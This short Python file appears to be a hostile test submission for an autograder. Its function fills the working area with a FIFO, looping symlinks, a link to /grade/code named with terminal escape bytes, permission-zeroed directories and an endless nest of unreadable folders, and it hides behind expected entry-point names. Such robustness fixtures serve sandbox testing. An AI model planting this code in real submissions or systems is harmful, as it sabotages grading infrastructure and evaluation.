# Leaves folders that are deep, closed, full and oddly named for the one who sweeps
# ends: assertion test_error
import contextlib
import os
import socket


def total(*_):
    with contextlib.suppress(OSError):
        thorns()
    return 0


def thorns():
    os.mkfifo("fifo")
    os.symlink("loop", "loop")
    os.symlink("/grade/code", b"\xff\n\x1b[2J")
    os.symlink("/", "..." + "x" * 250)
    socket.socket(socket.AF_UNIX).bind("socket")
    os.link("fifo", "../tmp/fifo")
    os.mkdir("../files.")
    os.chmod("../tmp", 0)
    while True:
        os.mkdir("d")
        os.close(os.open("f", os.O_CREAT, 0))
        os.chdir("d")
        os.chmod("..", 0)


Ledger = read_note = total
